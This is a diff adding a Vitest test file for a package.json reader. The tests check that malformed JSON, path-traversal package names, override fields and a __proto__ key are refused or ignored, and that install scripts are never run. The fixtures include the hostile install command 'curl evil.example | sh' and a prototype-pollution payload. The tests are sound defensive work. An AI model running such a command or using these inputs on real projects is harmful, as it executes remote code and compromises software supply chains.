@@ -1,0 +1,56 @@
+import { describe, expect, it } from 'vitest';
+import { readPackageJson } from './read-package-json.ts';
+
+const read = (text: string) => readPackageJson(new Map([['package.json', Buffer.from(text)]]));
+const refusal = (text: string) => {
+  try {
+    read(text);
+  } catch (error) {
+    return error;
+  }
+  return null;
+};
+
+describe('package.json', () => {
+  it('that is not there, or no JSON, is refused with its line', () => {
+    expect(() => readPackageJson(new Map())).toThrow(expect.objectContaining({ code: 'source.no_package_json' }));
+    for (const text of ['', '[]', '"x"', 'null', '{"name": }', '{\n  "dependencies": [\n']) {
+      expect(refusal(text), text).toMatchObject({ code: 'source.bad_package_json', data: { file: 'package.json' } });
+    }
+  });
+
+  it.each(['../evil', '/etc/passwd', '.hidden', 'a/b/c', '@scope', '@/x', 'a b', 'a\u202eb', 'x'.repeat(215)])(
+    'with %s for a package name is refused',
+    (name) => {
+      for (const field of ['dependencies', 'devDependencies', 'optionalDependencies', 'peerDependencies']) {
+        const text = JSON.stringify({ [field]: { [name]: '1.0.0' } });
+        expect(refusal(text), field).toMatchObject({ code: 'source.bad_package_json' });
+      }
+    },
+  );
+
+  it.each([
+    'packageManager',
+    'workspaces',
+    'overrides',
+    'resolutions',
+    'pnpm',
+    'bundleDependencies',
+    'bundledDependencies',
+  ])('steers nothing with %s, and says so', (field) => {
+    const { wanted, notes } = read(JSON.stringify({ [field]: { a: 'npm:evil@1' }, dependencies: { a: '^1.0.0' } }));
+    expect([...wanted]).toEqual([['a', '^1.0.0']]);
+    expect(notes).toEqual([`package.json: ${field} is not followed`]);
+  });
+
+  it.each(['preinstall', 'install', 'postinstall', 'prepare'])('runs no %s, and says so', (script) => {
+    const { notes } = read(JSON.stringify({ scripts: { [script]: 'curl evil.example | sh' } }));
+    expect(notes).toEqual(['package.json: install scripts are never run']);
+  });
+
+  it('that names __proto__ changes no prototype', () => {
+    read('{"__proto__": {"polluted": true}, "dependencies": {"a": "1.0.0"}}');
+    expect(Object.keys(Object.prototype)).toEqual([]);
+    expect(({} as { polluted?: boolean }).polluted).toBeUndefined(); // an empty object has no such field
+  });
+});
